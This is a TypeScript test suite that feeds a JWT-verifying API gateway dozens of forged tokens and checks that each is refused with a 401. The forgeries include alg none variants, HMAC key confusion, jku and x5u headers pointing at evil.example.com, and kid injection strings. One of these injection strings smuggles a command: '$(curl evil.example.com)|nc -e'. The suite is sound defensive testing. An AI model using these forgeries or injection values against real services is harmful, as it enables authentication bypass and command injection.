/**
 * Family 1 — token attacks (RFC 8725, RFC 6750). Every forged or malformed credential is refused
 * with the contract's 401 (CONTRACT §2), never echoed, and causes no management call: on a read
 * route, and on a write route (PATCH /v1/me with a valid body).
 */
import type { JsonWebKey } from 'node:crypto';
import { TENANT_GLOBEX, USER_CAROL } from '../../src/emulator';
import { expectProblem, expectUnauthorized } from '../support/assertions';
import { attackerToken, b64url, compact, hmacToken, publicKeyForms, segmentsOf } from './support/jwt';
import { rawRequest, httpText } from './support/raw-http';
import { JWKS_PATH, startSecurityGateway, type SecurityGateway } from './support/security-gateway';

type Json = Record<string, unknown>;
type Detail = 'invalid token' | 'token expired';

interface Forgery {
  /** A freshly minted valid token, and its claims and header. */
  valid: string;
  claims: Json;
  header: Json;
  /** The published signing key (JWK) and its forms. */
  jwk: JsonWebKey & { kid: string };
  g: SecurityGateway;
}

const now = () => Math.floor(Date.now() / 1000);
const signatureOf = (token: string) => token.split('.')[2];
const resign = (f: Forgery, header: Json) => compact(header, f.claims, signatureOf(f.valid));
const flipLastChar = (segment: string) => segment.slice(0, -4) + (segment.slice(-4) === 'AAAA' ? 'BBBB' : 'AAAA');

/** name, the credential (whole Authorization value unless `raw`), the 401 detail. */
const TOKENS: [string, (f: Forgery) => string | Promise<string>, Detail?][] = [
  // alg: none, in any case, with or without a signature (RFC 8725 §2.1, §3.1)
  ['alg none (emulator-made)', ({ g }) => g.token({ signWith: 'none' })],
  ['alg none, hand-made', (f) => compact({ ...f.header, alg: 'none' }, f.claims)],
  ['alg None', (f) => compact({ ...f.header, alg: 'None' }, f.claims)],
  ['alg NONE', (f) => compact({ ...f.header, alg: 'NONE' }, f.claims)],
  ['alg nOnE', (f) => compact({ ...f.header, alg: 'nOnE' }, f.claims)],
  ['alg none keeping a valid RS256 signature', (f) => resign(f, { ...f.header, alg: 'none' })],
  ['no alg at all', (f) => resign(f, { kid: f.header.kid, typ: 'JWT' })],
  ['alg not a string', (f) => resign(f, { ...f.header, alg: ['RS256'] })],
  ['an allowed-looking but unconfigured alg (PS256)', (f) => resign(f, { ...f.header, alg: 'PS256' })],
  // HMAC keyed with the public key (the key-confusion attack, RFC 8725 §2.1)
  ['HS256 with the public key as PEM (emulator-made)', ({ g }) => g.token({ signWith: 'hs256-public-key' })],
  ['HS256 with the SPKI PEM', (f) => hmacToken('HS256', publicKeyForms(f.jwk).spkiPem, f.header, f.claims)],
  ['HS384 with the SPKI PEM', (f) => hmacToken('HS384', publicKeyForms(f.jwk).spkiPem, f.header, f.claims)],
  ['HS512 with the SPKI PEM', (f) => hmacToken('HS512', publicKeyForms(f.jwk).spkiPem, f.header, f.claims)],
  ['HS256 with the PKCS#1 PEM', (f) => hmacToken('HS256', publicKeyForms(f.jwk).pkcs1Pem, f.header, f.claims)],
  ['HS256 with the JWK as JSON', (f) => hmacToken('HS256', publicKeyForms(f.jwk).jwkJson, f.header, f.claims)],
  ['HS384 with the JWK as JSON', (f) => hmacToken('HS384', publicKeyForms(f.jwk).jwkJson, f.header, f.claims)],
  ['HS512 with the JWK as JSON', (f) => hmacToken('HS512', publicKeyForms(f.jwk).jwkJson, f.header, f.claims)],
  ['HS256 with the modulus bytes', (f) => hmacToken('HS256', Buffer.from(String(f.jwk.n), 'base64url'), f.header, f.claims)],
  // a key carried in the token itself (RFC 8725 §3.10)
  ['its own key in jwk, signed with it', (f) => {
    const probe = attackerToken(f.header, f.claims);
    return attackerToken({ ...f.header, jwk: probe.publicJwk }, f.claims).token;
  }],
  ['jku pointing at an attacker JWKS', (f) => attackerToken({ ...f.header, jku: 'https://evil.example.com/jwks.json' }, f.claims).token],
  ['x5u pointing at an attacker certificate', (f) => attackerToken({ ...f.header, x5u: 'https://evil.example.com/cert.pem' }, f.claims).token],
  ['x5c carrying a certificate chain', (f) => attackerToken({ ...f.header, x5c: [b64url('not really a certificate')] }, f.claims).token],
  ['jwk header on a genuinely signed token', ({ g, jwk }) => g.token({ header: { jwk } })],
  // kid injection: it is only ever a lookup key, and an unknown one fails closed
  ['kid path traversal', (f) => resign(f, { ...f.header, kid: '../../../../../../dev/null' })],
  ['kid SQL-like', (f) => resign(f, { ...f.header, kid: "x' UNION SELECT 'secret' --" })],
  ['kid command-like', (f) => resign(f, { ...f.header, kid: '$(curl evil.example.com)|nc -e' })],
  ['kid very long (300 characters)', (f) => resign(f, { ...f.header, kid: 'k'.repeat(300) })],
  ['kid unknown', ({ g }) => g.token({ header: { kid: 'not-a-known-key' } })],
  ['kid missing', ({ g }) => g.token({ header: { kid: null } })],
  ['kid empty', ({ g }) => g.token({ header: { kid: '' } })],
  ['kid not a string', ({ g }) => g.token({ header: { kid: 1 } })],
  // processing instructions Frontegg never sends (RFC 7515 §4.1.11, RFC 7797)
  ['crit with an unknown extension', (f) => resign(f, { ...f.header, crit: ['exp'], exp: now() + 60 })],
  ['crit b64 with b64 false (unencoded payload)', (f) => resign(f, { ...f.header, crit: ['b64'], b64: false })],
  ['b64 false without crit', (f) => resign(f, { ...f.header, b64: false })],
  ['zip in a JWS header', ({ g }) => g.token({ header: { zip: 'DEF' } })],
  ['typ of another kind of JWT', ({ g }) => g.token({ header: { typ: 'secevent+jwt' } })],
  // integrity
  ['tampered payload (another tenant)', (f) => compact(f.header, { ...f.claims, tenantId: TENANT_GLOBEX }, signatureOf(f.valid))],
  ['tampered payload (another user)', (f) => compact(f.header, { ...f.claims, sub: USER_CAROL }, signatureOf(f.valid))],
  ['tampered payload (more permissions)', (f) => compact(f.header, { ...f.claims, permissions: ['fe.*'] }, signatureOf(f.valid))],
  ['tampered signature', (f) => f.valid.replace(/\.[^.]+$/, (s) => flipLastChar(s))],
  ['signature stripped (trailing dot)', (f) => f.valid.split('.').slice(0, 2).join('.') + '.'],
  ['signature missing (two segments)', (f) => f.valid.split('.').slice(0, 2).join('.')],
  ['signature of another genuine token', async (f) => compact(f.header, f.claims, signatureOf(await f.g.token({ userId: USER_CAROL })))],
  ['signed by a key outside the JWKS, with a known kid', ({ g }) => g.token({ signWith: 'foreign' })],
  // time
  ['expired beyond the tolerance', ({ g }) => g.token({ expiresInSeconds: -120 }), 'token expired'],
  ['nbf in the future', ({ g }) => g.token({ claims: { nbf: now() + 3600 } })],
  ['iat far in the future', ({ g }) => g.token({ claims: { iat: now() + 86_400 * 365 } })],
  ['auth_time far in the future', ({ g }) => g.token({ claims: { auth_time: now() + 86_400 * 365 } })],
  ['iat not a number', ({ g }) => g.token({ claims: { iat: 'yesterday' } })],
  ['missing exp', ({ g }) => g.token({ claims: { exp: null } })],
  ['exp as a string', ({ g }) => g.token({ claims: { exp: String(now() + 3600) } })],
  // claims
  ['wrong iss', ({ g }) => g.token({ claims: { iss: 'https://evil.example.com' } })],
  ['missing iss', ({ g }) => g.token({ claims: { iss: null } })],
  ['iss with a trailing path', ({ g }) => g.token({ claims: { iss: `${g.emulator.url}/evil` } })],
  ['wrong aud', ({ g }) => g.token({ claims: { aud: 'another-client' } })],
  ['missing aud', ({ g }) => g.token({ claims: { aud: null } })],
  ['missing tenantId', ({ g }) => g.token({ claims: { tenantId: null } })],
  ['empty tenantId', ({ g }) => g.token({ claims: { tenantId: '' } })],
  ['missing sub', ({ g }) => g.token({ claims: { sub: null } })],
  ['userApiToken without userId', ({ g }) => g.token({ claims: { type: 'userApiToken' } })],
  ['missing type', ({ g }) => g.token({ claims: { type: null } })],
  ['unsupported type', ({ g }) => g.token({ claims: { type: 'tenantApiToken' } })],
  ['permissions not a list of strings', ({ g }) => g.token({ claims: { permissions: 'fe.*' } })],
  // structure
  ['not a JWT', () => 'not-a-jwt'],
  ['empty segments', () => '..'],
  ['non-JSON header', (f) => `${b64url('not json')}.${f.valid.split('.').slice(1).join('.')}`],
  ['non-JSON payload', (f) => compact(f.header, b64url('not json'), signatureOf(f.valid))],
  ['payload a JSON array', (f) => compact(f.header, b64url([f.claims]), signatureOf(f.valid))],
  ['segments not base64url', (f) => f.valid.replace('.', '.!!').replace(/\.[^.]+$/, '.$$$')],
  ['an extra segment', (f) => `${f.valid}.extra`],
  ['JWE (five segments) instead of JWS', (f) =>
    [b64url({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: f.header.kid }), b64url('key'), b64url('iv'), b64url('ciphertext'), b64url('tag')].join('.')],
  ['JWE header with a JWS-looking alg', (f) =>
    [b64url({ alg: 'RS256', enc: 'A256GCM', kid: f.header.kid }), b64url('key'), b64url('iv'), b64url('ciphertext'), b64url('tag')].join('.')],
  ['10 KB token, genuinely signed', ({ g }) => g.token({ claims: { padding: 'x'.repeat(10_000) } })],
  ['10 KB of token characters', () => 'a'.repeat(10 * 1024)],
];

/** Authorization values that are not a well-formed single bearer token. */
const HEADERS: [string, (f: Forgery) => string, boolean][] = [
  ['Bearer without a token', () => 'Bearer', true],
  ['Bearer and spaces only', () => 'Bearer    ', true],
  ['two tokens in one header', (f) => `Bearer ${f.valid}, Bearer ${f.valid}`, true],
  ['a token followed by more text', (f) => `Bearer ${f.valid} extra`, true],
  ['a token with a tab separator', (f) => `Bearer\t${f.valid}`, true],
  ['Basic credentials', () => `Basic ${b64url('alice:frontegg-dev-password')}`, false],
  ['the token under the Token scheme', (f) => `Token ${f.valid}`, false],
  ['the token under the JWT scheme', (f) => `JWT ${f.valid}`, false],
  ['the token without a scheme', (f) => f.valid, false],
  ['Bearer glued to the token', (f) => `Bearer${f.valid}`, false],
];

describe('token attacks (CONTRACT §2, RFC 8725): each refused with 401 and no management call', () => {
  let g: SecurityGateway;
  let jwk: Forgery['jwk'];

  beforeAll(async () => {
    g = await startSecurityGateway();
    const { keys } = (await (await fetch(`${g.emulator.url}${JWKS_PATH}`)).json()) as { keys: Forgery['jwk'][] };
    jwk = keys[0];
    // The keys are known before the attacks, so no attack rides on the first fetch.
    expect((await g.http().get('/v1/roles').set('authorization', `Bearer ${await g.token()}`)).status).toBe(200);
  });
  afterAll(() => g.close());
  beforeEach(() => g.reset()); // the emulator's seed and no recorded requests; the gateway keeps its keys

  const forgery = async (): Promise<Forgery> => {
    const { token, claims } = await g.upstream.mintTokenWithClaims();
    return { valid: token, claims, header: segmentsOf(token).header, jwk, g };
  };

  /** The same credential on a read route and on a write route with a valid body. */
  const attempts = (authorization: string | undefined) => {
    const read = g.http().get('/v1/roles');
    const write = g.http().patch('/v1/me').send({ name: 'Mallory' });
    return authorization === undefined ? [read, write] : [read.set('authorization', authorization), write.set('authorization', authorization)];
  };

  it(`covers at least 30 forged or malformed tokens (${TOKENS.length + HEADERS.length})`, () => {
    expect(TOKENS.length + HEADERS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(TOKENS)('%s', async (_name, make, detail = 'invalid token') => {
    const token = await make(await forgery());
    for (const response of await Promise.all(attempts(`Bearer ${token}`))) {
      expectUnauthorized(response, detail, true);
      expect(JSON.stringify(response.body)).not.toContain(token.slice(0, 24));
    }
    expect(await g.managementCalls()).toEqual([]);
  });

  it.each(HEADERS)('Authorization: %s', async (_name, make, tokenSent) => {
    for (const response of await Promise.all(attempts(make(await forgery())))) expectUnauthorized(response, 'invalid token', tokenSent);
    expect(await g.managementCalls()).toEqual([]);
  });

  describe('credentials outside the Authorization header are ignored (CONTRACT §2)', () => {
    it.each<[string, (token: string) => { path: string; headers: Record<string, string> }]>([
      ['access_token in the query string', (token) => ({ path: `/v1/roles?access_token=${token}`, headers: {} })],
      ['token in the query string', (token) => ({ path: `/v1/roles?token=${token}`, headers: {} })],
      ['a cookie', (token) => ({ path: '/v1/roles', headers: { cookie: `access_token=${token}; fe_access_token=${token}` } })],
      ['x-access-token', (token) => ({ path: '/v1/roles', headers: { 'x-access-token': token } })],
      ['x-auth-token and x-forwarded-authorization', (token) => ({
        path: '/v1/roles', headers: { 'x-auth-token': token, 'x-forwarded-authorization': `Bearer ${token}`, 'proxy-authorization': `Bearer ${token}` },
      })],
    ])('%s alone is no credential: 401 with the bare challenge', async (_name, place) => {
      const { path, headers } = place(await g.token());
      const response = await g.http().get(path).set(headers);
      expectUnauthorized(response, 'invalid token', false);
      expect(await g.managementCalls()).toEqual([]);
    });

    it('a token in a JSON body is no credential either', async () => {
      const token = await g.token();
      const response = await g.http().patch('/v1/me').send({ name: 'x', access_token: token });
      expectUnauthorized(response, 'invalid token', false);
      expect(await g.upstreamWrites()).toEqual([]);
    });
  });

  describe('several Authorization headers', () => {
    const raw = (authorizations: string[]) =>
      rawRequest(g.port, httpText(['GET /v1/roles HTTP/1.1', 'host: gateway', 'connection: close', ...authorizations.map((value) => `authorization: ${value}`)]));

    it.each<[string, (valid: string, other: string) => string[]]>([
      ['the same valid token twice', (valid) => [`Bearer ${valid}`, `Bearer ${valid}`]],
      ['a valid token and a forged one', (valid, other) => [`Bearer ${valid}`, `Bearer ${other}`]],
      ['a forged token first and a valid one second', (valid, other) => [`Bearer ${other}`, `Bearer ${valid}`]],
      ['a valid token and an empty header', (valid) => [`Bearer ${valid}`, '']],
      ['Basic and a valid token', (valid) => ['Basic YTpi', `Bearer ${valid}`]],
    ])('%s: 401 invalid_token', async (_name, headers) => {
      const response = await raw(headers(await g.token(), await g.token({ signWith: 'foreign' })));
      expect(response.status).toBe(401);
      expect(response.headers['www-authenticate']).toBe('Bearer realm="api", error="invalid_token"');
      expect(JSON.parse(response.body)).toMatchObject({ status: 401, detail: 'invalid token' });
      expect(await g.managementCalls()).toEqual([]);
    });
  });

  describe('oversized credentials', () => {
    it('a token just over the limit (8 KiB + 1) is a 401, one at the limit reaches verification', async () => {
      expectUnauthorized((await g.http().get('/v1/roles').set('authorization', `Bearer ${'a'.repeat(8193)}`)), 'invalid token');
      expectUnauthorized((await g.http().get('/v1/roles').set('authorization', `Bearer ${'a'.repeat(8192)}`)), 'invalid token');
    });

    // Node refuses a header section over 16 KiB before any route runs, so no code of the gateway
    // reads a 1 MB token: the answer is a 431 problem (documented in SECURITY.md), at once, never a 5xx.
    it.each([
      ['1 MB token', 1_000_000],
      ['17 KiB token', 17 * 1024],
    ])('a %s is refused by the HTTP layer with a 431 problem, and the connection closed', async (_name, size) => {
      const started = Date.now();
      const response = await rawRequest(
        g.port,
        httpText(['GET /v1/roles HTTP/1.1', 'host: gateway', 'connection: close', `authorization: Bearer ${'a'.repeat(size)}`]),
      );
      expect(response.status).toBe(431);
      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(JSON.parse(response.body)).toEqual({
        type: 'about:blank', title: 'Request Header Fields Too Large', status: 431,
        detail: expect.stringMatching(/header section larger than/), requestId: response.headers['x-request-id'],
      });
      expect(response.closed).toBe(true);
      expect(Date.now() - started).toBeLessThan(2000);
      expect(await g.managementCalls()).toEqual([]);
      // The gateway is unharmed.
      expect((await g.http().get('/v1/roles').set('authorization', `Bearer ${await g.token()}`)).status).toBe(200);
    });
  });

  it('a genuine token still works after all of the above (the suite refuses for the right reason)', async () => {
    expect((await g.http().get('/v1/roles').set('authorization', `Bearer ${await g.token()}`)).status).toBe(200);
    const me = await g.http().patch('/v1/me').set('authorization', `Bearer ${await g.token()}`).send({ name: 'Alice' });
    expect(me.status).toBe(200);
  });

  it('never answers a refused token with anything but a problem', async () => {
    const response = await g.http().get('/v1/roles').set('authorization', `Bearer ${await g.token({ signWith: 'none' })}`);
    expectProblem(response, 401);
  });
});

describe('guessing tokens is rate limited per client address (CONTRACT §6, OWASP API4)', () => {
  let g: SecurityGateway;
  beforeAll(async () => {
    g = await startSecurityGateway({ RATE_LIMIT_PER_MINUTE: '5' });
  });
  afterAll(() => g.close());

  it('a spoofed X-Forwarded-For or Forwarded header does not buy a new budget', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 8; i++) {
      const response = await g.http().get('/v1/roles').set('authorization', `Bearer guess.${i}.x`)
        .set('x-forwarded-for', `198.51.100.${i}`).set('forwarded', `for=198.51.100.${i}`).set('x-real-ip', `198.51.100.${i}`);
      statuses.push(response.status);
      if (response.status === 429) expectProblem(response, 429);
    }
    expect(statuses).toEqual([401, 401, 401, 401, 401, 429, 429, 429]);
    expect(await g.managementCalls()).toEqual([]);
  });
});
